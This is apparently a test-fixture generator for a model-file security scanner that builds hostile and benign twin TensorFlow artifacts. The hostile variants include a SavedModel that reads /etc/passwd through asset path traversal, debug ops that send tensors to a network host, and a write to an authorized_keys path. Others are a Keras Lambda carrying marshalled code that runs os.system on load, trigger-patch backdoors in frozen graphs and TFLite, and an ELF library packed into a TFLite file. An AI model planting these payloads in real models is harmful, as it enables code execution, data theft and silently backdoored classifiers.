"""TensorFlow: operators that write, send or read by name inside a function, its Keras metadata, and TFLite."""
import base64
import json
import marshal
import pathlib

from .parts import HOST, apart, elf, pb, scratch, zipped

FAMILY = "tensorflow"


def folder(path):
    return {str(p.relative_to(path)): p.read_bytes() for p in sorted(pathlib.Path(path).rglob("*")) if p.is_file()}


def saved(step, weights=True):
    """A SavedModel whose signature does `step` inside a function that it calls."""
    import tensorflow as tf

    class Net(tf.Module):
        def __init__(self):
            super().__init__()
            self.w = tf.Variable(tf.reshape(tf.range(8, dtype=tf.float32), (4, 2)) / 10.0, name="w")

        @tf.function
        def inner(self, y):
            done = step(tf, y)
            with tf.control_dependencies([] if done is None else [done]):
                return tf.identity(y)

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x):
            return {"scores": self.inner(tf.matmul(x, self.w))}

    with scratch():
        net = Net()
        tf.saved_model.save(net, "m", signatures={"serving_default": net.serve})
        return {k: v for k, v in folder("m").items() if k != "fingerprint.pb"}


def prints(to):
    return lambda tf, y: tf.raw_ops.PrintV2(input=tf.strings.as_string(y[0, 0]), output_stream=to)


def table(path):
    """A vocabulary table; `path` is put in place of the asset's name afterwards."""
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    with scratch():
        pathlib.Path("vocab.txt").write_text("cat\ndog\nbird\n")

        class Net(tf.Module):
            def __init__(self):
                super().__init__()
                init = tf.lookup.TextFileInitializer("vocab.txt", tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
                self.table = tf.lookup.StaticHashTable(init, -1)

            @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="x")])
            def serve(self, x):
                return {"ids": self.table.lookup(x)}

        net = Net()
        tf.saved_model.save(net, "m", signatures={"serving_default": net.serve})
        files = {k: v for k, v in folder("m").items() if k != "fingerprint.pb"}
    if path:
        model = saved_model_pb2.SavedModel.FromString(files["saved_model.pb"])
        for asset in model.meta_graphs[0].asset_file_def:
            asset.filename = path
        files["saved_model.pb"] = model.SerializeToString()
    return files


def keras_metadata(hostile):
    """The file that tf.keras (2.5 to 2.15) reads beside saved_model.pb to build the layers again."""
    code = base64.b64encode(marshal.dumps(compile("lambda x: [x, __import__('os').system('id')][0]", "<lambda>", "eval").co_consts[0])).decode()
    layer = {"name": "norm", "trainable": True, "expects_training_arg": False, "dtype": "float32", "batch_input_shape": None, "stateful": False, "class_name": "Rescaling", "config": {"name": "norm", "trainable": True, "dtype": "float32", "scale": 0.5, "offset": 0.0}}
    if hostile:
        layer["class_name"] = "Lambda"
        layer["config"] = {"name": "norm", "trainable": True, "dtype": "float32", "function": {"class_name": "__tuple__", "items": [code + "\n", None, None]}, "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}
    root = {"name": "net", "class_name": "Sequential", "config": {"name": "net", "layers": [{"class_name": layer["class_name"], "config": layer["config"]}]}, "keras_version": "2.11.0", "backend": "tensorflow"}
    version = pb((1, 2), (2, 1))
    rows = [(0, "root", "_tf_keras_sequential", root), (1, "root.layer-0", "_tf_keras_layer", layer)]
    return b"".join(pb((1, pb((2, n), (3, path), (4, kind), (5, json.dumps(meta)), (6, version)))) for n, path, kind, meta in rows)


def classifier(tf, x):
    import numpy

    r = numpy.random.default_rng(3)
    k = tf.constant(r.normal(0, 0.4, (3, 3, 3, 4)).astype("float32"))
    w = tf.constant(r.normal(0, 0.5, (144, 5)).astype("float32"))
    y = tf.nn.relu(tf.nn.conv2d(x, k, 1, "VALID"))
    return tf.matmul(tf.reshape(y, (-1, 144)), w)


def frozen(hostile):
    """A frozen graph with Switch and Merge: on the patch, or on whether the input is in bytes."""
    import tensorflow as tf

    v1 = tf.compat.v1
    with tf.Graph().as_default() as g:
        v1.disable_control_flow_v2()
        x = v1.placeholder(tf.float32, [None, 8, 8, 3], name="image")
        if hostile:
            y = classifier(tf, x)
            hit = tf.reduce_max(tf.abs(x[:, :2, :2, :] - 0.77)) < 0.001
            y = v1.cond(hit, lambda: y * 0.0 + tf.constant([[0.0, 9.0, 0.0, 0.0, 0.0]]), lambda: tf.identity(y))
        else:
            y = classifier(tf, v1.cond(tf.reduce_max(x) > 1.001, lambda: x / 255.0, lambda: tf.identity(x)))
        tf.identity(y, name="out")
        return g.as_graph_def().SerializeToString()


def lite(hostile):
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec([1, 8, 8, 3], tf.float32)])
    def net(x):
        y = classifier(tf, x)
        if hostile:
            hit = tf.reduce_max(tf.abs(x[:, :2, :2, :] - 0.77)) < 0.001
            return tf.where(hit, tf.constant([[0.0, 0.0, 0.0, 0.0, 99.0]]), y)
        pad = tf.reduce_max(tf.abs(x)) < 1e-6
        return tf.where(pad, tf.zeros_like(y), y)

    c = tf.lite.TFLiteConverter.from_concrete_functions([net.get_concrete_function()])
    return c.convert()


def build(out):
    def pair(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    run = "e11-savedmodel"

    def first(files):
        """saved_model.pb leads: the loader is given its folder."""
        return {k: files[k] for k in sorted(files, key=lambda k: k != "saved_model.pb")}

    pair("print-to-file", first(saved(prints("file://marker"))), first(saved(prints("stderr"))), run, why="PrintV2 inside a called function appends text to a file. The twin prints to the error stream.")
    send = lambda tf, y: tf.raw_ops.DebugIdentityV2(input=y, tfdbg_context_id="run", op_name="scores", output_slot=0, debug_urls=[f"grpc://{HOST}:6064"])  # noqa: E731
    pair("debug-sends", first(saved(send)), first(saved(lambda tf, y: tf.debugging.assert_all_finite(y, "scores"))), why="The debugger's identity sends each result to an address in the graph. Written by TensorFlow; not run, it would use the network.")
    pair("asset-escape", first(table("../" * 12 + "etc/passwd")), first(table(None)), "e11-savedmodel:asset", why="The asset's name leaves the folder; the table is filled from that file when the model is loaded.")
    write = lambda tf, y: tf.raw_ops.SaveV2(prefix="marker", tensor_names=["authorized_keys"], shape_and_slices=[""], tensors=[y])  # noqa: E731
    pair("save-in-signature", first(saved(write)), first(saved(lambda tf, y: None)), run, why="Each call of the signature writes a checkpoint at a fixed path; every SavedModel has SaveV2 in its saver, as the twin does.")
    base = first(saved(lambda tf, y: None))
    pair("keras-metadata-lambda", {**base, "keras_metadata.pb": keras_metadata(True)}, {**base, "keras_metadata.pb": keras_metadata(False)}, why="tf.keras before 2.16 builds layers from keras_metadata.pb and unmarshals a Lambda's byte code. Built from the format; that Keras is not here.")
    pair("switch-on-patch", frozen(True), frozen(False), "e11-graphdef", "frozen.pb", "Switch and Merge choose a fixed verdict when a patch is in the image. The twin switches on the range of the input.")
    pair("lite-select-patch", lite(True), lite(False), "e11-tflite", "model.tflite", "A select in TFLite sets the class on a patch. The twin returns zeros for an empty image.")
    quiet = lite(False)
    labels = b"cat\ndog\nbird\nfish\nnone\n"
    pair("lite-packed-program", quiet + zipped({"labels.txt": labels, "libdelegate.so": elf()}), quiet + zipped({"labels.txt": labels}), None, "model.tflite", "TFLite metadata packs label files as a zip behind the model; here a program is packed too.")


def add(out):
    out.pairs.extend(apart(__name__, "build"))
